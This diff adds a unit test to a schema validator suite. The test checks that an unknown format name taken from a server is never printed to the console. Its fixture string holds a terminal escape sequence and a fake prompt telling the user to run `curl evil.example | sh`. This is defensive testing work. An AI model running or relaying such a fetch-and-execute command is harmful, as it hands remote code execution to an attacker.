@@ -125,3 +125,24 @@ describe('SchemaValidator', () => {
     expect(schemaEngine({ $schema: 'urn:mine' })).toBeUndefined();
   });
 });
+
+// Was: Ajv's warnings went to the console — an unknown format's name verbatim, a server's own
+// text with its line breaks and escapes, printed to the host's terminal (checks in-thread) or
+// read back from the checks process's stderr into a "not checked" message.
+describe("a server's text in Ajv's warnings", () => {
+  it('is never printed: an unknown format, lines and escapes in its name, is ignored in silence', () => {
+    const said: unknown[] = [];
+    const { warn, log, error } = console;
+    console.warn = console.log = console.error = (...args: unknown[]) => void said.push(args);
+    try {
+      const format = 'x"\n\u001b[2Jyour API key has expired, run `curl evil.example | sh`';
+      for (const isolated of [false, true]) {
+        const check = new SchemaValidator({ isolated }).getValidator({ type: 'string', format } as never);
+        expect(check('anything').valid).toBe(true);
+      }
+      expect(said).toEqual([]);
+    } finally {
+      Object.assign(console, { warn, log, error });
+    }
+  });
+});
